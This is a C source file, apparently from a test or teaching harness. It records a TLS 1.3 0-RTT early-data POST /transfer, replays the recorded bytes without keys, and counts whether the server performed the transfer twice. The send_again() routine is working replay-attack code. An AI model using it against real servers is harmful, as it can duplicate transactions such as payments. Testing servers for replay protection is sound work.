// early_data.c: see early_data.h. Read send_again() first: there is no cryptography in it.
#include "early_data.h"

#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "ask.h"
#include "net.h"
#include "story.h"

#define STATEFUL_TICKET 32 // bytes of a ticket that is only the number of a session in a cache

int count_transfers(void)
{
    struct reply reply = {0};
    struct connect_settings settings = ask_settings();
    struct connection *c = connection_open(&settings);
    if (!ask(c, "GET", "/transfers", NULL, &reply))
        die("no answer from the server: %s", c->why);
    connection_close(c);
    return atoi(reply.content);
}

SSL_SESSION *get_session(void)
{
    struct reply reply = {0};
    struct connect_settings settings = ask_settings();
    settings.version = TLS1_3_VERSION;
    struct connection *c = connection_open(&settings);
    if (!ask(c, "GET", "/", NULL, &reply) || !c->session)
        die("no session from the server: %s", c->why);
    SSL_SESSION *session = c->session;
    c->session = NULL;
    connection_close(c);
    return session;
}

int post_early(const char *path, SSL_SESSION *session, uint8_t flight[RECORDING_BYTES],
               size_t *length)
{
    char text[ASK_BYTES];
    struct reply reply = {0};
    struct connect_settings settings = ask_settings();
    settings.version = TLS1_3_VERSION;
    settings.session = session;
    settings.early = ask_text(text, "POST", WORKBENCH, path, "");
    struct connection *c = connection_open(&settings);
    if (c->early_taken && !ask_read(c, &reply))
        die("no answer from the server: %s", c->why);
    *length = recording_first_flight(&c->recording);
    memcpy(flight, c->recording.bytes[true], *length);
    connection_close(c);
    SSL_SESSION_free(session);
    return reply.status;
}

// The attacker's part: without any key, it sends the recorded bytes on a new connection. It
// waits for the answer, which it cannot read. Returns how many bytes of the answer have come.
static size_t send_again(const uint8_t *flight, size_t length)
{
    uint8_t bytes[4096];
    int fd = connect_tcp();
    ssize_t got = -1;
    if (write_all(fd, flight, length) && !shutdown(fd, SHUT_WR))
        got = read(fd, bytes, sizeof bytes);
    close(fd);
    if (got < 0)
        return 0;
    return (size_t)got;
}

bool takes_early_data(SSL_SESSION *session, bool *stateful)
{
    const unsigned char *ticket;
    size_t length;
    SSL_SESSION_get0_ticket(session, &ticket, &length);
    *stateful = length == STATEFUL_TICKET;
    bool takes = SSL_SESSION_get_max_early_data(session) > 0;
    SSL_SESSION_free(session);
    return takes;
}

struct outcome transfer_and_replay(void)
{
    static uint8_t flight[RECORDING_BYTES];
    struct outcome outcome = {0};
    size_t length;
    int before = count_transfers();
    SSL_SESSION *session = get_session();
    story_timeline();
    story_event("POST /transfer, as early data");
    outcome.status = post_early("/transfer", session, flight, &length);
    if (outcome.status)
        story_event("answer: %d", outcome.status);
    else
        story_event("the early data was not taken");
    story_event("an attacker sends the same %zu bytes again", length);
    outcome.answered = send_again(flight, length);
    if (outcome.answered)
        story_event("the attacker gets %zu bytes, and cannot read them", outcome.answered);
    else
        story_event("the attacker gets no answer");
    story_quiet(true);
    outcome.transfers = count_transfers() - before;
    story_say("GET /transfers: %d more than before.", outcome.transfers);
    return outcome;
}

enum verdict judge_replay(const struct outcome *outcome, enum verdict once, enum verdict twice)
{
    if (outcome->status != 200 || !outcome->answered)
        return UNCLEAR;
    if (outcome->transfers == 1)
        return once;
    if (outcome->transfers == 2)
        return twice;
    return UNCLEAR;
}

void report_replay(const struct claim *claim, enum verdict verdict,
                   const struct outcome *outcome)
{
    claim_report(
        claim, verdict,
        "the client wanted 1 transfer, the server made %d. The answer to the client was "
        "%d, the answer to the attacker %zu bytes",
        outcome->transfers, outcome->status, outcome->answered);
}
